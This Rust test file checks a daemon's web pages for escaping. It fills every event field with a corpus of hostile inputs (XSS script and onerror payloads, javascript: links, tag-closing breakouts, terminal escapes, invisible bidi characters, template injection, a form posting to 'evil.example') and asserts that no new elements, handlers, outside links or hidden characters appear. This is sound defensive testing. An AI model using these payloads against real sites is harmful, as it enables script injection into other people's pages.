//! Hostile text in every field that an agent or a person fills is text on every page.

use std::collections::BTreeSet;
use std::fs;
use std::time::{Duration, Instant};

use http_body_util::BodyExt as _;
use maud::PreEscaped;
use serde_json::{Value, json};

use super::{World, life};
use crate::daemon::checkpoints::list::{Dropped, Lost, Preview};
use crate::daemon::hooks::HookView;
use crate::domain::event::Event;
use crate::domain::hook::HookName;
use crate::domain::testkit::{checkpoint_name, idea, oid};
use crate::domain::time::Timestamp;
use crate::view::{ChangedFile, MergeDiff};
use crate::web::document::as_html;

/// What agents and people write: markup, ends of attributes and elements, sequences for terminals,
/// links in them, characters that turn text around or hide, templates, addresses with code.
const CORPUS: [&str; 10] = [
    "<script>window.hacked=1</script>",
    "\"><img src=x onerror=window.hacked=1>",
    "' onmouseover='window.hacked=1' x='",
    "</textarea></title></style></script></svg><svg onload=window.hacked=1>",
    "\u{1b}[31mred\u{1b}]8;;javascript:window.hacked=1\u{7}link\u{1b}]8;;\u{7}\u{9b}2J",
    "\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}\u{61c}\0\u{7f}\u{85}",
    "javascript:window.hacked=1",
    "<hx-partial hx-target=\"body\"><form method=post action=//evil.example>",
    "--><!-- ]]><![CDATA[ &lt;script&gt; &#60;img &amp;quot;",
    "{{constructor.constructor('window.hacked=1')()}} ${1} `x`\r\n# heading\n\ndata: x\n\n",
];

fn hostile(number: usize) -> String {
    // Several in one text: what one opens another may close.
    format!(
        "{}{}",
        CORPUS[number % CORPUS.len()],
        CORPUS[(number / 3) % CORPUS.len()]
    )
}

/// The same event with hostile text wherever it takes any text.
fn spoiled(event: &Event, number: &mut usize) -> Event {
    let mut value = serde_json::to_value(event).unwrap();
    let mut places = Vec::new();
    texts(&value, String::new(), &mut places);
    let mut spoiled = event.clone();
    for place in places {
        let old = value.pointer(&place).cloned().unwrap();
        // What holds an account's limits must stay its account.
        if place.ends_with("/account") || place.ends_with("/key") {
            continue;
        }
        *number += 1;
        *value.pointer_mut(&place).unwrap() = json!(hostile(*number));
        match serde_json::from_value(value.clone()) {
            Ok(event) => spoiled = event,
            Err(_) => *value.pointer_mut(&place).unwrap() = old,
        }
    }
    spoiled
}

fn texts(value: &Value, place: String, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(place),
        Value::Array(all) => {
            for (index, one) in all.iter().enumerate() {
                texts(one, format!("{place}/{index}"), found);
            }
        }
        Value::Object(all) => {
            for (key, one) in all {
                texts(one, format!("{place}/{key}"), found);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// What the daemon tells besides its state, with `text` for every number.
fn tell(world: &World, text: impl Fn(usize) -> String) {
    let lost = |number: u64| Lost {
        commit: oid(number),
        subject: text(usize::try_from(number).unwrap()),
        own: number == 1,
    };
    *world.told.preview.lock().unwrap() = Some(Preview {
        checkpoint: checkpoint_name("one"),
        from: Some(oid(1)),
        commit: oid(2),
        ideas_reverted: Vec::new(),
        commits_lost: (1..8).map(lost).collect(),
        commits_regained: vec![lost(9)],
        dirty_files: vec![text(1), text(2)],
        commands: vec![text(3)],
        agents_stopped: Vec::new(),
        ideas_to_start: 1,
        ideas_starting: vec![idea(2)],
        messages_dropped: vec![Dropped {
            idea_id: idea(1),
            message: text(4),
        }],
        problem: Some(text(5)),
    });
    let file = |number: usize| ChangedFile {
        path: text(number),
        from: (number == 2).then(|| text(7)),
        status: ["added", "modified", "renamed"][number % 3],
        insertions: Some(1),
        deletions: Some(1),
    };
    let line = |number: usize| text(number).replace(['\r', '\n'], " ");
    let files: Vec<String> = (0..CORPUS.len())
        .map(|at| {
            let (name, old, new) = (line(at), line(at + 1), line(at + 2));
            let head = format!("diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}");
            format!("{head}\n@@ -1 +1 @@ {name}\n-{old}\n+{new}\n")
        })
        .collect();
    let patch = files.concat();
    *world.told.diff.lock().unwrap() = Some(MergeDiff {
        idea_id: idea(1),
        branch: text(1),
        source_commit: oid(1),
        target_commit: oid(2),
        base: oid(2),
        result: oid(1),
        held: true,
        conflicts: vec![text(2)],
        files: (0..CORPUS.len()).map(file).collect(),
        diff: patch,
        truncated: true,
    });
    *world.told.hooks.lock().unwrap() = HookName::ALL
        .map(|hook| HookView {
            hook,
            from: "folder",
            program: text(1),
            approved: false,
            refused: Some(text(2)),
            timeout_seconds: 1,
            last: None,
            waiting: 1,
        })
        .into();
    *world.told.checkpoints.lock().unwrap() = world.read(|state| {
        let all = state.checkpoints.keys();
        all.map(|name| json!({"name": name, "problem": text(3), "branch": text(4)}))
            .collect()
    });
}

/// Gives every run this output.
fn write_outputs(world: &World, output: &[u8]) {
    let runs = world.read(|state| {
        let agents = state
            .agents
            .values()
            .flat_map(|attempt| attempt.runs.clone());
        let hooks = state
            .hooks_last
            .values()
            .filter_map(|last| last.run.clone());
        agents.chain(hooks).collect::<Vec<_>>()
    });
    for run in runs {
        let folder = world.dir.path().join("runs").join(run.as_str());
        fs::create_dir_all(&folder).unwrap();
        for name in ["stdout.log", "stderr.log", "prompt.md"] {
            fs::write(folder.join(name), output).unwrap();
        }
    }
}

/// Elements with their attributes' names, and where they lead.
fn structure(page: &str) -> (BTreeSet<String>, BTreeSet<String>) {
    let (mut shapes, mut leads) = (BTreeSet::new(), BTreeSet::new());
    for part in page.split('<').skip(1) {
        let (tag, _) = part.split_once('>').expect("a tag ends");
        let name: String = tag
            .chars()
            .take_while(|letter| !letter.is_whitespace())
            .collect();
        shapes.insert(name.clone());
        // Values have no quotation mark inside: it is escaped.
        for (index, piece) in tag.split('"').enumerate() {
            if index % 2 == 1 {
                continue;
            }
            let names = piece.split_whitespace().skip(usize::from(index == 0));
            for attribute in names {
                shapes.insert(format!("{name} {}", attribute.trim_end_matches('=')));
            }
            let lead = ["href=", "src=", "action=", "formaction=", "hx-sse:connect="];
            if lead.iter().any(|lead| piece.ends_with(&format!(" {lead}"))) {
                let value = tag.split('"').nth(index + 1).unwrap();
                leads.insert(value.split(['?', '#']).next().unwrap().to_owned());
            }
        }
    }
    (shapes, leads)
}

/// The texts of a page, without what a person may change and send back.
fn texts_of(page: &str) -> String {
    let mut texts = String::new();
    for part in page.split('<').skip(1) {
        let (tag, text) = part.split_once('>').unwrap();
        if !tag.starts_with("textarea") {
            texts.push_str(text);
        }
    }
    texts
}

async fn sent(world: &World, address: &str) -> String {
    let page = world.page(address).await;
    let body = as_html(PreEscaped(page)).into_body();
    let bytes = body.collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// A world with this log and output in everything; its pages' structure, and their longest time.
async fn all_pages(
    log: &[(Timestamp, Event)],
    text: impl Fn(usize) -> String,
    output: &[u8],
) -> (BTreeSet<String>, Duration) {
    let world = World::of(log);
    world.go_to(u64::try_from(log.len()).unwrap()).await;
    tell(&world, text);
    write_outputs(&world, output);
    let base = world.site.access.path();
    let (mut all, mut longest) = (BTreeSet::new(), Duration::ZERO);
    let mut addresses = world.addresses();
    addresses.extend(HookName::ALL.map(|hook| format!("hooks/{hook}")));
    for address in addresses {
        let began = Instant::now();
        let page = sent(&world, &address).await;
        longest = longest.max(began.elapsed());
        let (shapes, leads) = structure(&page);
        all.extend(shapes);
        for lead in leads {
            assert!(
                lead.is_empty() || lead.starts_with(&base),
                "/{address} leads to {lead}"
            );
        }
        let own = ["agents", "ideas"].contains(&address.split(['/', '?']).next().unwrap());
        let scripts = page.matches("<script").count();
        assert_eq!(scripts, 1 + usize::from(own), "/{address}");
        let hidden = |letter: &char| match letter {
            '\n' | '\t' | '\r' => false,
            letter => {
                letter.is_control() || "\u{202e}\u{2066}\u{200b}\u{feff}\u{61c}".contains(*letter)
            }
        };
        let found: BTreeSet<char> = texts_of(&page).chars().filter(hidden).collect();
        assert!(
            found.is_empty(),
            "/{address} has hidden characters {found:?}"
        );
    }
    (all, longest)
}

#[tokio::test(start_paused = true)]
async fn hostile_text_in_every_field_is_text_on_every_page() {
    // Hidden characters in a diff are marked.
    let mut usual = BTreeSet::from(["mark".to_owned(), "/mark".to_owned()]);
    let mut spoiled_pages = BTreeSet::new();
    let mut output = CORPUS.join("\n").into_bytes();
    // No text at all: a lone surrogate and a broken sequence; then a line of 10 MB.
    output.extend(b"\n\xed\xa0\x80 \xff\xfe\n");
    output.extend(vec![b'<'; 10 << 20]);
    output.extend(b"\nlast <b>line</b> \x1b]8;;javascript:x\x07link\n");
    let mut longest = Duration::ZERO;
    for seed in 1..=8 {
        let log = life(seed, 400);
        let (shapes, _) = all_pages(&log, |at| format!("text {at}"), b"text\n").await;
        usual.extend(shapes);
        let mut number = 0;
        let bad = log
            .iter()
            .map(|(at, event)| (*at, spoiled(event, &mut number)));
        let bad: Vec<_> = bad.collect();
        assert!(number > 100);
        let (shapes, took) = all_pages(&bad, hostile, &output).await;
        spoiled_pages.extend(shapes);
        longest = longest.max(took);
    }
    let new: BTreeSet<_> = spoiled_pages.difference(&usual).collect();
    eprintln!("longest page: {longest:?}; only with hostile text: {new:?}");
    let is_wrong = |shape: &&&String| {
        let (element, attribute) = shape.split_once(' ').unwrap_or((shape, ""));
        let known = usual.contains(element);
        !known
            || attribute.starts_with("on")
            || attribute.starts_with("style")
            || attribute.starts_with("hx-")
            || attribute.starts_with("form")
    };
    let wrong: Vec<_> = new.iter().filter(is_wrong).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(longest < Duration::from_secs(5), "{longest:?}");
}
